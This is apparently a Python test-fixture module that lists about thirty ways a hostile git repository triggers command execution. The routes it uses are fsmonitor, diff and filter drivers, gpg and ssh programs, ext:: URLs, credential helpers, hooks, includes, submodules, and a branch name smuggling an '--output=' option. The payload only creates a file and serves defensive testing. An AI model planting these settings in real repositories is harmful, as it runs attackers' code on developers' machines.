"""The ways in which the maker of a repository makes plain git run a command.

Each turns an honest repository into a hostile one, and names the plain git command that falls for
it. The payload creates the file `pwned` and does no harm.
"""

from __future__ import annotations

import os
import shutil
from collections.abc import Callable
from pathlib import Path

from gitrepo import GitRepo
from hostile import Victim

Attack = Callable[[Victim], tuple[str, ...]]
ATTACKS: dict[str, Attack] = {}


def attack(function: Attack) -> Attack:
    ATTACKS[function.__name__] = function
    return function


# commands that a config names


@attack
def fsmonitor(victim: Victim) -> tuple[str, ...]:
    victim.config(("core.fsmonitor", f"{victim.payload};false"))
    return ("diff-tree", "-p", "HEAD")


@attack
def external_diff(victim: Victim) -> tuple[str, ...]:
    victim.config(("diff.external", f"{victim.payload};:"))
    return ("diff", "HEAD~2", "HEAD")


@attack
def diff_driver_command(victim: Victim) -> tuple[str, ...]:
    victim.attributes("* diff=evil")
    victim.config(("diff.evil.command", f"{victim.payload};:"))
    return ("diff", "HEAD~2", "HEAD")


@attack
def textconv(victim: Victim) -> tuple[str, ...]:
    victim.attributes("* diff=evil")
    victim.config(("diff.evil.textconv", f"{victim.payload};cat"))
    return ("log", "-p")


@attack
def textconv_by_info_attributes(victim: Victim) -> tuple[str, ...]:
    (victim.dot_git / "info" / "attributes").write_text("* diff=evil\n", encoding="utf-8")
    victim.config(("diff.evil.textconv", f"{victim.payload};cat"))
    return ("log", "-p")


@attack
def textconv_by_configured_attributes(victim: Victim) -> tuple[str, ...]:
    file = victim.dot_git / "attributes"
    file.write_text("* diff=evil\n", encoding="utf-8")
    victim.config(
        ("core.attributesFile", str(file)), ("diff.evil.textconv", f"{victim.payload};cat")
    )
    return ("log", "-p")


@attack
def textconv_of_a_driver_of_ours(victim: Victim) -> tuple[str, ...]:
    victim.attributes("*.py diff=python")
    victim.config(("diff.python.textconv", f"{victim.payload};cat"))
    return ("log", "-p")


@attack
def clean_filter(victim: Victim) -> tuple[str, ...]:
    victim.attributes("* filter=evil")
    victim.config(("filter.evil.clean", f"{victim.payload};cat"))
    return ("status",)


@attack
def smudge_filter(victim: Victim) -> tuple[str, ...]:
    victim.attributes("* filter=evil")
    victim.config(("filter.evil.smudge", f"{victim.payload};cat"))
    return ("archive", "HEAD")


@attack
def filter_process(victim: Victim) -> tuple[str, ...]:
    victim.attributes("* filter=evil")
    victim.config(("filter.evil.process", victim.payload))
    return ("archive", "HEAD")


@attack
def signature_program(victim: Victim) -> tuple[str, ...]:
    program = victim.script(victim.dot_git / "gpg.sh")
    victim.config(("log.showSignature", "true"), ("gpg.program", str(program)))
    return ("log",)


@attack
def signature_in_the_format(victim: Victim) -> tuple[str, ...]:
    program = victim.script(victim.dot_git / "gpg.sh")
    victim.config(("format.pretty", "%H %G?"), ("gpg.program", str(program)))
    return ("log",)


@attack
def alias(victim: Victim) -> tuple[str, ...]:
    victim.config(("alias.st", f"!{victim.payload}"))
    return ("st",)


# commands that a remote names


@attack
def ssh_command(victim: Victim) -> tuple[str, ...]:
    victim.config(
        ("remote.origin.url", "ssh://host.invalid/x"), ("core.sshCommand", victim.payload)
    )
    return ("fetch",)


@attack
def git_proxy(victim: Victim) -> tuple[str, ...]:
    program = victim.script(victim.dot_git / "proxy.sh")
    victim.config(("remote.origin.url", "git://host.invalid/x"), ("core.gitProxy", str(program)))
    return ("fetch",)


@attack
def ext_url(victim: Victim) -> tuple[str, ...]:
    program = victim.script(victim.dot_git / "ext.sh")
    victim.config(("remote.origin.url", f"ext::{program}"), ("protocol.ext.allow", "always"))
    return ("fetch",)


@attack
def instead_of(victim: Victim) -> tuple[str, ...]:
    program = victim.script(victim.dot_git / "ext.sh")
    victim.config(
        ("remote.origin.url", "https://host.invalid/x"),
        (f"url.ext::{program} %G .insteadOf", "https://host.invalid/"),
        ("protocol.ext.allow", "always"),
    )
    return ("fetch",)


@attack
def upload_pack(victim: Victim) -> tuple[str, ...]:
    victim.config(
        ("remote.origin.url", str(victim.path)),
        ("remote.origin.uploadpack", f"{victim.payload};git-upload-pack"),
    )
    return ("fetch",)


@attack
def remote_helper(victim: Victim) -> tuple[str, ...]:
    program = victim.script(victim.dot_git / "ext.sh")
    victim.config(
        ("remote.origin.url", str(program)),
        ("remote.origin.vcs", "ext"),
        ("protocol.ext.allow", "always"),
    )
    return ("fetch",)


@attack
def credential_helper(victim: Victim) -> tuple[str, ...]:
    victim.config(("remote.origin.url", victim.web), ("credential.helper", f"!{victim.payload};:"))
    return ("-c", "core.askPass=/bin/false", "fetch")


@attack
def ask_pass(victim: Victim) -> tuple[str, ...]:
    program = victim.script(victim.dot_git / "ask.sh", "echo x")
    victim.config(("remote.origin.url", victim.web), ("core.askPass", str(program)))
    return ("fetch",)


@attack
def alternate_refs_command(victim: Victim) -> tuple[str, ...]:
    other = victim.path.with_name(f"{victim.path.name}-other")
    shutil.copytree(victim.path, other)
    info = victim.dot_git / "objects" / "info"
    info.mkdir(exist_ok=True)
    (info / "alternates").write_text(f"{other}/.git/objects\n", encoding="utf-8")
    GitRepo(other, clock=victim.repo.clock + 600).commit("newer", {"new.txt": "new\n"})
    victim.config(
        ("core.alternateRefsCommand", f"{victim.payload};:"), ("remote.origin.url", str(other))
    )
    return ("fetch", "origin", "main")


# hooks, includes, other configurations


@attack
def hook(victim: Victim) -> tuple[str, ...]:
    victim.script(victim.dot_git / "hooks" / "post-index-change")
    victim.make_dirty()
    os.utime(victim.path / "notes.txt", (1, 1))
    return ("diff", "HEAD")


@attack
def hooks_path(victim: Victim) -> tuple[str, ...]:
    victim.script(victim.dot_git / "evil" / "post-index-change")
    victim.config(("core.hooksPath", str(victim.dot_git / "evil")))
    os.utime(victim.path / "notes.txt", (1, 1))
    return ("diff", "HEAD")


@attack
def conditional_include(victim: Victim) -> tuple[str, ...]:
    file = victim.dot_git / "more"
    file.write_text(f'[diff]\n\texternal = "{victim.payload};:"\n', encoding="utf-8")
    victim.config((f"includeIf.gitdir:{victim.path}/.path", str(file)))
    return ("diff", "HEAD~2", "HEAD")


@attack
def worktree_config(victim: Victim) -> tuple[str, ...]:
    victim.config(("core.repositoryFormatVersion", "1"), ("extensions.worktreeConfig", "true"))
    (victim.dot_git / "config.worktree").write_text(
        f'[diff]\n\texternal = "{victim.payload};:"\n', encoding="utf-8"
    )
    return ("diff", "HEAD~2", "HEAD")


def _without_blobs(victim: Victim) -> None:
    """Makes it a partial clone whose blobs are yet to be fetched."""
    victim.config(("core.repositoryFormatVersion", "1"), ("extensions.partialClone", "origin"))
    victim.config(("remote.origin.promisor", "true"))
    for line in victim.repo.git("rev-list", "--objects", "--all").split("\n"):
        name, _, path = line.partition(" ")
        if path:
            (victim.dot_git / "objects" / name[:2] / name[2:]).unlink(missing_ok=True)


@attack
def promisor_over_ext(victim: Victim) -> tuple[str, ...]:
    program = victim.script(victim.dot_git / "ext.sh")
    _without_blobs(victim)
    victim.config(("remote.origin.url", f"ext::{program}"), ("protocol.ext.allow", "always"))
    return ("log", "-p")


@attack
def promisor_over_ssh(victim: Victim) -> tuple[str, ...]:
    _without_blobs(victim)
    victim.config(
        ("remote.origin.url", "ssh://host.invalid/x"), ("core.sshCommand", victim.payload)
    )
    return ("log", "-p")


@attack
def promisor_upload_pack(victim: Victim) -> tuple[str, ...]:
    _without_blobs(victim)
    victim.config(
        ("remote.origin.url", str(victim.path)),
        ("remote.origin.uploadpack", f"{victim.payload};git-upload-pack"),
    )
    return ("log", "-p")


def _with_submodule(victim: Victim) -> Path:
    """A submodule, moved once, with a git folder of its own; returns that folder."""
    inner = GitRepo.init(victim.path / "sub")
    for word in ("one", "two"):
        head = inner.commit(word, {"a.py": f"{word}\n"})
        victim.repo.git("update-index", "--add", "--cacheinfo", f"160000,{head},sub")
        victim.repo.write(".gitmodules", '[submodule "sub"]\n\tpath = sub\n\turl = ./sub\n')
        victim.repo.git("add", ".gitmodules")
        victim.repo.git("commit", "-q", "-m", f"submodule {word}")
    victim.config(("submodule.sub.active", "true"), ("submodule.sub.url", "./sub"))
    return inner.path


@attack
def diff_of_a_submodule(victim: Victim) -> tuple[str, ...]:
    inner = GitRepo(_with_submodule(victim))
    (inner.path / ".git" / "info" / "attributes").write_text("* diff=evil\n", encoding="utf-8")
    inner.git("config", "diff.evil.textconv", f"{victim.payload};cat")
    victim.config(("diff.submodule", "diff"))
    return ("log", "-p", "-2")


@attack
def status_of_a_submodule(victim: Victim) -> tuple[str, ...]:
    inner = GitRepo(_with_submodule(victim))
    inner.git("config", "core.fsmonitor", f"{victim.payload};false")
    return ("status",)


@attack
def fetch_of_a_submodule(victim: Victim) -> tuple[str, ...]:
    inner = GitRepo(_with_submodule(victim))
    inner.git("config", "core.sshCommand", victim.payload)
    inner.git("config", "remote.origin.url", "ssh://host.invalid/x")
    victim.config(("remote.origin.url", str(victim.path)), ("fetch.recurseSubmodules", "true"))
    return ("fetch",)


@attack
def branch_like_an_option(victim: Victim) -> tuple[str, ...]:
    """Falls for it: a program that hands the names that git lists back to git."""
    with (victim.dot_git / "packed-refs").open("a", encoding="utf-8") as refs:
        refs.write(f"{victim.repo.head()} refs/heads/--output={victim.pwned}\n")
    names = victim.repo.git("for-each-ref", "--format=%(refname:lstrip=2)").split("\n")
    return ("log", *(name for name in names if name.startswith("-")))
